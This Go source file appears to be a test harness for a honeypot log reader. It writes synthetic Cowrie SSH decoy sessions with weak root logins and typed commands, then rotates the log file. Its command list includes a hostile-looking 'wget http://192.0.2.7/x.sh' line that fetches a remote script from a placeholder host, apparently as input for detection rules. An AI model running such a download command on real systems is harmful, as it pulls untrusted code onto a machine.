package main

import (
	"fmt"
	"os"
	"strings"
	"time"
)

// kept is how many rotations of the log are kept.
const kept = 20

// A writer writes sessions into a log as a decoy does, one after the other.
type writer struct {
	attackers int
	path      string
	file      *os.File
	written   []time.Time // of each session
	lines     int
	rotations int
	messages  *messages // nil = there is a log
}

func (w *writer) open() (err error) {
	w.file, err = os.OpenFile(w.path, os.O_CREATE|os.O_APPEND|os.O_WRONLY, 0o600)
	return err
}

func (w *writer) sessions() int { return len(w.written) }

// commands are what is typed in a session: about one line in seven matches a rule.
var commands = []string{"ls", "cd /tmp", "wget http://192.0.2.7/x.sh", "echo ok", "pwd", "uname -a", "ls -la", "date", "exit"}

// session writes one session, all at once.
func (w *writer) session() error {
	if w.messages != nil {
		w.events()
		return nil
	}
	n := w.sessions()
	who := n % w.attackers
	now := time.Now().UTC()
	var b strings.Builder
	line := func(id, rest string) {
		w.lines++
		fmt.Fprintf(&b, `{"eventid":"cowrie.%s","sensor":"decoy-01","timestamp":%q,"src_ip":"198.18.%d.%d","session":"%012x"%s}`+"\n",
			id, now.Format("2006-01-02T15:04:05.000000Z"), who/250%250, who%250, n, rest)
	}
	line("session.connect", `,"src_port":4000,"dst_ip":"192.0.2.10","dst_port":2222,"protocol":"ssh"`)
	line("client.version", `,"version":"SSH-2.0-Go"`)
	line("login.failed", `,"username":"root","password":"123456"`)
	line("login.success", `,"username":"root","password":"admin"`)
	for _, c := range commands {
		line("command.input", fmt.Sprintf(`,"input":%q`, c))
	}
	line("session.closed", `,"duration":"1.0"`)
	w.written = append(w.written, now)
	_, err := w.file.WriteString(b.String())
	return err
}

// rotate takes the log away, by renaming it or by copying and truncating it.
func (w *writer) rotate() error {
	w.rotations++
	for i := min(w.rotations, kept); i > 1; i-- {
		if err := os.Rename(w.rotated(i-1), w.rotated(i)); err != nil && !os.IsNotExist(err) {
			return err
		}
	}
	if w.rotations%2 == 0 {
		if err := os.Rename(w.path, w.rotated(1)); err != nil {
			return err
		}
		if err := w.file.Close(); err != nil {
			return err
		}
		return w.open()
	}
	text, err := os.ReadFile(w.path)
	if err != nil {
		return err
	}
	if err := os.WriteFile(w.rotated(1), text, 0o600); err != nil {
		return err
	}
	return os.Truncate(w.path, 0)
}

func (w *writer) rotated(i int) string { return fmt.Sprintf("%s.%d", w.path, i) }
